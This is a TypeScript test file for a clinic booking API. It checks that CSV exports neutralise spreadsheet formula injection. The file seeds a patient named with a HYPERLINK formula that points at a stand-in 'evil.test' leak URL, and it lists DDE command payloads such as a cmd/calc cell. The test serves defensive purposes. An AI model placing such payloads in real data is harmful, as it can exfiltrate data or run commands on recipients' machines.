// CSV export of the staff views and analytics through real PostgREST (`Accept: text/csv`), and
// the client rule that neutralises cells a spreadsheet would run (clients/js exportCsv,
// docs/import.md "Export"): PostgREST returns the stored text as it is, so a patient named
// =HYPERLINK(...) reaches the CSV verbatim; exportCsv prefixes it with an apostrophe, leaves
// numbers, phone numbers and ordinary text alone, and keeps the CSV well-formed.
import { randomUUID } from 'node:crypto';
import postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSlotbase, exportCsv, isFormulaLike, neutraliseCsv } from '../../clients/js/index.ts';
import { apiMissing, as, closeAuthConnection, env, seed, window } from './api.ts';

// Days 12-13 ahead at Camden are this file's (upcoming_appointments shows the next 14 days).
const exportWindow = window(12, 2);
const evilName = '=HYPERLINK("http://evil.test/?leak","Click me")';

describe.skipIf(apiMissing)('CSV export through the Data API', () => {
  const admin = postgres(env.dbUrl, { max: 1, onnotice: () => {} });
  const patientId = randomUUID();
  let frontDesk: Awaited<ReturnType<typeof as>>;
  let owner: Awaited<ReturnType<typeof as>>;
  let appointmentId = '';

  beforeAll(async () => {
    // stored around the import (which refuses such names), as an older system or a direct write could have
    await admin`insert into public.patients (tenant_id, id, full_name, phone, registered_centre_id)
                values (${seed.northside}, ${patientId}, ${evilName}, ${`+4477008${String(Date.now() % 1e6).padStart(6, '0')}`}, ${seed.camden})`;
    [frontDesk, owner] = await Promise.all([as(seed.leo), as(seed.amira)]);
    const slotbase = createSlotbase(frontDesk.supabase);
    const slots = await slotbase.searchSlots({ serviceId: seed.gp, centreId: seed.camden, clinicianId: seed.priya, ...exportWindow });
    appointmentId = (await slotbase.book({
      serviceId: seed.gp, centreId: seed.camden, clinicianId: seed.priya, startsAt: slots[3]!.starts_at, patientId, clientKey: randomUUID(),
    })).id;
  });

  afterAll(async () => {
    await admin`delete from public.notifications where appointment_id = ${appointmentId}`.catch(() => {});
    await admin`delete from public.appointment_status_history where appointment_id = ${appointmentId}`.catch(() => {});
    await admin`delete from public.appointments where id = ${appointmentId}`.catch(() => {});
    await admin`delete from public.patients where id = ${patientId}`.catch(() => {});
    await admin.end();
    await closeAuthConnection();
  });

  it('PostgREST answers a staff view as CSV with the stored text verbatim, formula and all', async () => {
    const { data, error, status } = await frontDesk.supabase.from('upcoming_appointments')
      .select('appointment_id,patient_display_name,local_date').eq('appointment_id', appointmentId).csv();
    expect(error).toBeNull();
    expect(status).toBe(200);
    const [header, row] = String(data).split('\n');
    expect(header).toBe('appointment_id,patient_display_name,local_date');
    expect(row).toContain('"=HYPERLINK(""http://evil.test/?leak"",""Click me"")"');
  });

  it('exportCsv neutralises the formula, keeps the CSV well-formed and the other cells as they are', async () => {
    const csv = await exportCsv(frontDesk.supabase.from('upcoming_appointments').select('appointment_id,patient_display_name,local_date').eq('appointment_id', appointmentId));
    const [header, row] = csv.split('\n');
    expect(header).toBe('appointment_id,patient_display_name,local_date');
    expect(row).toMatch(new RegExp(`^${appointmentId},"'=HYPERLINK\\(""http://evil.test/\\?leak"",""Click me""\\)",\\d{4}-\\d{2}-\\d{2}$`));
  });

  it('analytics RPCs export the same way, numbers untouched', async () => {
    const args = { tenant_id: seed.northside, from_date: exportWindow.from.slice(0, 10), to_date: exportWindow.to.slice(0, 10) };
    const csv = await exportCsv(owner.supabase.rpc('appointments_by_status_and_period', args));
    expect(csv.split('\n')[0]).toMatch(/^[a-z_,]+$/);
    expect(csv).toMatch(/booked/);
    const raw = await owner.supabase.rpc('appointments_by_status_and_period', args).csv();
    expect(csv).toBe(raw.data); // nothing to neutralise in counts and dates
    const refused = await frontDesk.supabase.rpc('appointments_by_status_and_period', args).csv();
    expect(refused.status).toBe(403);
    await expect(exportCsv(frontDesk.supabase.rpc('appointments_by_status_and_period', args))).rejects.toMatchObject({ code: 'PT403' });
  });

  it('the rule: formulas, DDE and their + - @ tab forms are neutralised; numbers, phones, dates and text are not', () => {
    for (const cell of ['=1+1', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(A1)', '\tx', '\r=1', '+', '-']) expect(isFormulaLike(cell)).toBe(true);
    for (const cell of ['-12.50', '+44 7700 900123', '+1 (555) 010-9999', '2026-12-07', 'Ana Rao', '', 'a=b']) expect(isFormulaLike(cell)).toBe(false);
    expect(neutraliseCsv('a,b\r\n=1+1,"x,""y"""\r\n-5,@z\r\n')).toBe('a,b\r\n\'=1+1,"x,""y"""\r\n-5,\'@z\r\n');
    expect(neutraliseCsv('a\n"multi\nline"\n')).toBe('a\n"multi\nline"\n');
  });
});
